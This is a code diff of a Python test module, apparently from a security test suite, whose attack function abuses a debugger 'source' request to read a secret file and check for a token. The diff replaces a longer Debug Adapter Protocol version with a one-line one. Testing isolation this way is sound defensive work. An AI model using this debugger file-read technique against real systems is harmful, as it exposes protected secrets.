@@ -3,27 +3,5 @@
 ALONE = True
 
 
-CLIENT = {
-    "clientID": "t",
-    "adapterID": "",
-    "pathFormat": "path",
-    "linesStartAt1": True,
-    "columnsStartAt1": True,
-}
-
-
 def attack(door):
-    for channel in ("control", "shell"):
-        door.ask(
-            "debug_request", channel, type="request", seq=1, command="initialize", arguments=CLIENT
-        )
-        request = {
-            "type": "request",
-            "seq": 2,
-            "command": "source",
-            "arguments": {"source": {"path": door.secret}},
-        }
-        reply = door.ask("debug_request", channel, **request)
-        if door.token in str(reply):
-            return True
-    return False
+    return door.token in str(door.debug("source", source={"path": door.secret}))
